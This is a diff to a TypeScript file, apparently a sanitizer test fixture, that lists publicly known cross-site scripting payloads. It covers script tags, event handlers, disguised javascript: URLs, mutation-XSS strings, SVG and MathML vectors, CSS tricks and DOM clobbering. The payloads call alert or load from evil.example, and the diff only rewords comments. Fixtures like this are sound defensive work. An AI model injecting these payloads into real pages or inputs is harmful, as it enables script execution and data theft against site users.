@@ -1,10 +1,10 @@
 /**
- * What is publicly known to run script out of HTML that somebody else wrote, or to send a reader's address to another
- * host: tags, handlers, addresses in every disguise, mutation between two parses, drawings and formulas, styles. Each
- * calls `alert` where it succeeds, or fetches from `evil.example`.
+ * Publicly known HTML that runs script or sends a reader's address to another host: tags, handlers, addresses in every
+ * disguise, mutation between two parses, SVG and MathML, styles. Each item calls `alert` when it succeeds, or fetches
+ * from `evil.example`.
  */
 export const HOSTILE_HTML: readonly string[] = [
-  // script itself
+  // script elements
   "<script>alert(1)</script>",
   "<SCRIPT>alert(1)</SCRIPT>",
   "<scr<script>ipt>alert(1)</scr</script>ipt>",
@@ -72,7 +72,7 @@ export const HOSTILE_HTML: readonly string[] = [
   "<object data=x onerror=alert(1)></object>",
   "<link rel=stylesheet href=x onerror=alert(1)>",
   "<style onload=alert(1)></style>",
-  // addresses that run
+  // addresses that run script
   "<a href=javascript:alert(1)>x</a>",
   "<a href=JaVaScRiPt:alert(1)>x</a>",
   "<a href='java\tscript:alert(1)'>x</a>",
@@ -133,7 +133,7 @@ export const HOSTILE_HTML: readonly string[] = [
   "<input type=image src=//evil.example/a.png>",
   "<table background=//evil.example/a.png><tr><td>x</table>",
   "<body background=javascript:alert(1)>",
-  // drawings and formulas
+  // SVG and MathML
   "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
   "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
   "<svg><set onbegin=alert(1) attributeName=x></set></svg>",
@@ -148,7 +148,7 @@ export const HOSTILE_HTML: readonly string[] = [
   "<math href=javascript:alert(1)>x</math>",
   "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
   "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
-  // what one parse takes for text and the next for an element
+  // text for one parse that is an element for the next
   "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
   "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
   "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
@@ -185,7 +185,7 @@ export const HOSTILE_HTML: readonly string[] = [
   "<p style='width:expression(alert(1))'>x</p>",
   "<p style='behavior:url(#default#time2)' onbegin=alert(1)>x</p>",
   "<p style='-moz-binding:url(//evil.example/x.xml#x)'>x</p>",
-  // names that stand in the way of the page's own
+  // names that collide with the page's own
   "<img name=body><img name=cookie><form name=documentElement></form>",
   "<form id=root><input name=attributes><input name=parentNode></form>",
   "<a id=__proto__ href=/m/help>x</a><a name=hasAttribute href=/m/help>x</a>",
